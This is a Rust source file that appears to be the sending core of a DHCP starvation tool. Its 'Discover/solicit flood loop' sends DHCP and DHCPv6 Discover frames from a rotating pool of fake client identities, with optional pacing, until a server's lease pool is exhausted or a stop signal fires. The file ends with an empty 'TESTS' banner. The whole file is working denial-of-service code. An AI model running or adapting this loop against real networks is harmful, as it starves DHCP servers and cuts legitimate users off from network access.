//! Discover/solicit flood loop.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use starve_common::sent;
use starve_protocols::Frame;

use crate::identity::IdentityPool;
use crate::link::PacketLink;
use crate::protocol::LeaseProtocol;
use crate::session::SessionView;
use crate::stop::StopSignal;

/// One open-loop sender. It never writes session state; the only shared
/// thing it mutates is the identity pool rotation.
pub struct Sender {
    pub id: usize,
    pub link: Arc<dyn PacketLink>,
    pub protocol: Arc<dyn LeaseProtocol>,
    pub identities: Arc<IdentityPool>,
    pub session: SessionView,
    pub stop: StopSignal,
    /// Zero disables pacing.
    pub pacing: Duration,
}

impl Sender {
    /// Runs until the pool is exhausted or the stop signal fires. Both are
    /// checked once per iteration; a send in flight always completes.
    pub async fn run(self) -> anyhow::Result<()> {
        tracing::debug!("Thread {} - (Sender) READY", self.id);
        while !self.stop.is_triggered() && !self.session.is_exhausted() {
            let client = self.identities.next();
            let xid = self.protocol.transaction_id();
            let frame = self.protocol.build_discover(client, xid)?;
            self.link
                .send(&frame)
                .with_context(|| format!("sender {} failed to send a discover", self.id))?;
            log_discover(&frame);

            if self.pacing.is_zero() {
                tokio::task::yield_now().await;
                continue;
            }
            tokio::select! {
                _ = tokio::time::sleep(self.pacing) => {}
                _ = self.stop.stopped() => break,
            }
        }
        tracing::debug!("Thread {} - (Sender) done", self.id);
        Ok(())
    }
}

fn log_discover(frame: &Frame) {
    if let Some(message) = frame.dhcpv6() {
        let cid = message.client_id().map(hex).unwrap_or_default();
        sent!("v6_DHCP_Discover [cid:{cid}]");
    } else {
        sent!("DHCP_Discover");
    }
}

pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
